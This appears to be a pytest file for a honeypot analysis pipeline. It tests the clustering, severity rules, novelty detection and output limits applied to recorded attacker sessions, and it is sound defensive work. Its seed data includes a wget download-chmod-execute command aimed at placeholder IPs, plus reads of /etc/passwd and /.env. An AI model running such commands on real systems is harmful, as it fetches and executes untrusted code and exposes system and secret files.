"""Sessions gathered by what they did: counted, judged by rules, compared with the week before, shown within bounds."""

import json
from datetime import timedelta

from sqlalchemy import Engine, select

from rustbucket_pipeline.analysis.contents import Clusters, Digest
from rustbucket_pipeline.analysis.digest import build_digest, compose, digest_of, judge
from rustbucket_pipeline.analysis.prompt import question_of
from rustbucket_pipeline.analysis.prompt_rows import MOST_BYTES
from rustbucket_pipeline.storage.analysis_tables import clusters, sighted_windows
from rustbucket_pipeline_tests.analysis.seeding import NOW, WINDOW, command, session, tell

DAY = timedelta(days=1)
FETCH = "cd /tmp; wget http://203.0.113.{}/x; chmod 777 x; ./x"


def digest(engine: Engine) -> Digest:
    with engine.begin() as connection:
        return digest_of(connection, WINDOW)


def shown(engine: Engine) -> Clusters:
    return digest(engine).clusters


def test_sessions_that_do_the_same_are_one_cluster_judged_by_the_rules(database: Engine) -> None:
    first = session(database, "uname -a", FETCH.format(1), src_ip="192.0.2.1")
    session(database, "uname -a", FETCH.format(2), at=60, rustbucket="BKT2", src_ip="192.0.2.2")
    session(database, "id", at=90)
    worst, other = shown(database).rows
    assert (worst.id, worst.sessions, worst.sources, worst.rustbuckets, worst.events) == ("C1", 2, 2, 2, 6)
    assert worst.severity == "high"
    assert {"download-and-run", "system-discovery"} <= set(worst.rules)
    assert worst.steps == ("uname -a", "cd /tmp ; wget <url> ; chmod <n> <w> ; ./<w>")
    assert worst.examples == ("uname -a", FETCH.format(1))
    assert worst.rows[0] == first
    assert (other.steps, other.severity, other.at_least) == (("id",), "low", False)


def test_logins_alone_a_mail_and_a_mere_connection_are_behaviours_too(database: Engine) -> None:
    session(database, logins=3)
    session(database, at=1, mails=1, protocol="smtp")
    session(database, at=2)
    session(database, at=3, request_lines=["GET /.env"], requests=1, protocol="http")
    steps = {row.steps for row in shown(database).rows}
    assert steps == {("login",), ("mail",), ("connect",), ("get /.env",)}


def test_counts_are_lower_bounds_where_sessions_cant_be_told_apart_or_lists_are_cut(database: Engine) -> None:
    session(database, "id", confidence="ambiguous", candidates=["a", "b"])
    session(database, "w", at=1, commands=70)
    assert {row.steps: row.at_least for row in shown(database).rows} == {("id",): True, ("w",): True}
    assert "at least 1" in question_of(digest(database), ()).document


def test_usual_is_what_two_rustbuckets_or_three_days_saw_in_the_week_before(database: Engine) -> None:
    for day in (1, 2, 3):
        session(database, "three days", "id", at=WINDOW.start - DAY * day)
    for bucket in ("BKT1", "BKT2"):
        session(database, "free -m", at=WINDOW.start - DAY, rustbucket=bucket)
    session(database, "nproc", at=WINDOW.start - DAY)
    for place, lines in enumerate((("three days", "id"), ("free -m",), ("nproc",), ("uptime",))):
        session(database, *lines, at=place)
    news = {row.steps[-1]: row.is_new for row in shown(database).rows}
    assert news == {"id": False, "free -m": False, "nproc": True, "uptime": True}


def test_a_campaign_rehearsed_for_a_week_is_still_shown_in_full(database: Engine) -> None:
    for day in range(1, 8):
        session(database, FETCH.format(day), at=WINDOW.start - DAY * day)
    session(database, FETCH.format(9))
    for number in range(300):
        session(database, f"ls /tmp/{number}", "id", "w" if number % 2 else "last", at=10 + number)
    (severe,) = (row for row in shown(database).rows if row.severity == "high")
    assert not severe.is_new


def test_rows_that_changed_in_the_week_before_change_what_is_usual(database: Engine) -> None:
    session(database, "free -m")
    assert shown(database).rows[0].is_new
    for bucket in ("BKT1", "BKT2"):
        session(database, "free -m", at=WINDOW.start - DAY, rustbucket=bucket)
    assert not shown(database).rows[0].is_new


def test_each_window_is_noted_once(database: Engine) -> None:
    for day in (1, 2):
        session(database, "id", at=WINDOW.start - DAY * day)
    session(database, "id")
    build_digest(database, WINDOW, NOW, None)
    with database.connect() as connection:
        first = connection.execute(select(sighted_windows).order_by(sighted_windows.c.window_start)).all()
    assert [row.window_start for row in first] == [WINDOW.start - DAY * 2, WINDOW.start - DAY, WINDOW.start]
    build_digest(database, WINDOW, NOW, None)
    with database.connect() as connection:
        assert connection.execute(select(sighted_windows).order_by(sighted_windows.c.window_start)).all() == first


def test_the_table_has_all_and_the_document_says_what_it_doesnt_show(database: Engine) -> None:
    verbs = ("id", "w", "last", "nproc", "uptime", "free", "env", "pwd", "who", "date", "top", "dmesg")
    for number in range(144):
        session(database, verbs[number % 12], verbs[number // 12], "cat /proc/cpuinfo | grep x | wc -l", at=number)
    with database.begin() as connection:
        found = compose(connection, WINDOW, judge(connection, WINDOW), 6_000)
        stored = connection.execute(select(clusters.c.cluster_id)).scalars().all()
    told = found.clusters
    assert len(stored) == told.total == len(told.rows) + len(told.brief) + told.hidden
    document = question_of(found, (), 6_000).document
    assert len(document) <= 6_000
    said = json.loads(document)
    lines = sum(map(len, said["others"].values()))
    assert said["clusters_not_shown"]["clusters"] == told.total - len(told.rows) - lines
    assert lines > 20
    assert said["clusters_not_shown"]["clusters"] > 0


def test_the_prompt_is_bounded_whatever_the_volume(database: Engine) -> None:
    for number in range(200):
        session(database, f"cat /etc/passwd | grep {number}", *(["id", "w"] * (number % 40)), "x" * 250, at=number)
    assert len(question_of(digest(database), ()).document) <= MOST_BYTES


def test_a_flood_on_top_hides_no_single_session(database: Engine) -> None:
    session(database, "lscpu", "df -h", "crontab -l")
    for number in range(400):
        session(database, f"{number:x}zq qq{number}", at=number, src_ip=f"198.18.{number % 250}.{number // 250}")
    tell(database, [command(f"{number:x}zq", number % 60, src_ip=f"198.18.{number % 250}.9") for number in range(300)])
    told = shown(database)
    assert ("lscpu", "df -h", "crontab -l") in {row.steps for row in told.rows}
    assert told.sessions == 401
